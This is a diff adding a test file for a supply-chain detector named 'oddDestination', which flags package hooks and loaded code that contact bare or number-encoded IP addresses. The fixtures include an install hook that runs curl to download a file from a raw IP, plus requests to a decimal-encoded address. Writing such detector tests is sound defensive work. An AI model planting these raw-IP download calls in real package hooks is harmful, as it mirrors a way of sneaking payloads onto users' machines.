@@ -1,0 +1,23 @@
+import { hooked, installed, loaded, testDetector } from "../../test/test-detector.ts";
+import { oddDestination } from "./index.ts";
+
+testDetector(oddDestination, {
+  fires: {
+    "a bare address in a hook": ["strong", hooked("curl http://203.0.113.9/x -o x")],
+    "an address written as a number": ["strong", loaded(`require("http").get("http://3405803785/x");`)],
+    "an options object": [
+      "strong",
+      installed(`require("http").request({ host: "203.0.113.9", port: 8000 }).end();`),
+    ],
+    "an address when it is used": [
+      "supporting",
+      loaded(`module.exports = () => fetch("http://203.0.113.9/x");`),
+    ],
+  },
+  silent: {
+    "the machine itself": loaded(`fetch("http://127.0.0.1:3000/");`),
+    "a private network": loaded(`fetch("http://192.168.1.1/");`),
+    "a named host": loaded(`fetch("https://api.example/");`),
+    "a version that looks like an address": loaded(`console.log("1.2.3.4");`),
+  },
+});
